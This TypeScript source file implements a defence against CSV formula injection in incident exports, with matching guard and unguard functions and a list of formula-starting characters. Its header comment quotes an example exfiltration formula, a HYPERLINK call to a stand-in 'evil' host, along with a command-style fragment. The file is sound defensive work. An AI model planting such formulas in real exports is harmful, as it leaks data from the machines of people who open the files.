// Formula injection (CSV injection): a spreadsheet opening a CSV file runs a cell that starts with
// = + - @ (or a tab or line break before one of them) as a formula, so an incident title such as
// `=HYPERLINK("http://evil/?"&A1)` taken from an export would act on the analyst's machine. Following
// OWASP's advice, such a cell is written with a single quote in front, which spreadsheets show as text.
//
// Every cell is guarded, including numbers written as text: `-5` becomes `'-5`. Vigil stores every
// value as text, and telling a harmless negative number from `-2+3` or `-cmd|...` by inspection is the
// kind of cleverness these attacks live on; the cost is a quote an analyst may see in a spreadsheet.
//
// The guard is undone exactly by unguardCell, which Vigil's importer applies to files that carry its
// export marker (see src/main/import/vigilExport.ts). To make the pair exact, a value that already
// starts with quotes followed by a guarded character ('=x) gets one more quote; unguardCell removes
// one quote only from a cell that starts with a quote, then any quotes, then a guarded character.

/**
 * First characters a spreadsheet may read as the start of a formula: the four ASCII signs, tab, CR, LF
 * and NUL, and the full-width and small forms of the signs, which some spreadsheets fold to ASCII.
 */
export const FORMULA_STARTERS: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '\0',
  '\uFF1D', // ＝ full-width equals sign
  '\uFF0B', // ＋ full-width plus sign
  '\uFF0D', // － full-width hyphen-minus
  '\uFF20', // ＠ full-width commercial at
  '\uFE66', // ﹦ small equals sign
  '\uFE62', // ﹢ small plus sign
  '\uFE63', // ﹣ small hyphen-minus
  '\uFE6B', // ﹫ small commercial at
];

const STARTERS = FORMULA_STARTERS.map((c) => (c === '\0' ? '\\0' : c === '-' ? '\\-' : c)).join('');
const NEEDS_GUARD = new RegExp(`^'*[${STARTERS}]`, 'u');
const IS_GUARDED = new RegExp(`^''*[${STARTERS}]`, 'u');

/** The cell as written to a CSV file: a single quote in front when it could start a formula. */
export function guardCell(text: string): string {
  return NEEDS_GUARD.test(text) ? `'${text}` : text;
}

/** The value a guarded cell was written from (the inverse of guardCell). */
export function unguardCell(text: string): string {
  return IS_GUARDED.test(text) ? text.slice(1) : text;
}
